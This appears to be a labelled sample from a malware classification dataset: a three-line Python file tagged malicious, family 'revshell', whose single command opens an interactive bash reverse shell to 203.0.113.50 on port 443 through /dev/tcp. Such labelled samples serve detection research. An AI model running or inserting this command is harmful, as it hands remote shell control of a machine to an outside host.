# label: malicious family=revshell techniques=T1059.004,T1095 lines=3
import os
os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'")
